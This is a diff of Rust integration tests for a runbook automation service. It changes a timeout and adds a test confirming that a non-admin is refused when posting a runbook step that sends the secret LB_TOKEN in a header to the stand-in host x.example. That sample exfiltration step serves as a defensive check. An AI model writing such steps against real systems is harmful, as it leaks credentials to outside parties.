@@ -324,7 +324,7 @@ async fn a_failed_step_is_retried_and_a_lost_one_is_never_made_twice(b: Backend)
     runbook(
         &app,
         &format!(
-            "---\nname: slow\n---\n## Call\n```klaxon-http\nurl: {url}/slow\ntimeout: 120\n```\n"
+            "---\nname: slow\n---\n## Call\n```klaxon-http\nurl: {url}/slow\ntimeout: 30\n```\n"
         ),
     )
     .await;
@@ -510,6 +510,19 @@ async fn secrets_fill_steps_sealed_and_masked(b: Backend) {
         None,
     )
     .await;
+    // Whoever writes a step naming a secret decides where it goes: admins only.
+    let e = refused(
+        app.post(
+            "/api/v1/runbooks",
+            &responder.token,
+            &json!({"source": "---\nname: steal\n---\n## Send\n```klaxon-http\nurl: https://x.example/\nheaders:\n  K: \"{{ secrets.LB_TOKEN }}\"\n```\n"}),
+        ),
+        403,
+        "forbidden",
+        None,
+    )
+    .await;
+    assert!(e["message"].as_str().unwrap().contains("secrets"), "{e}");
     let listed = ok(app.get("/api/v1/secrets", t), 200).await;
     assert_eq!(listed[0]["name"], "LB_TOKEN");
     assert!(!listed.to_string().contains("tok-3141592653"), "{listed}");
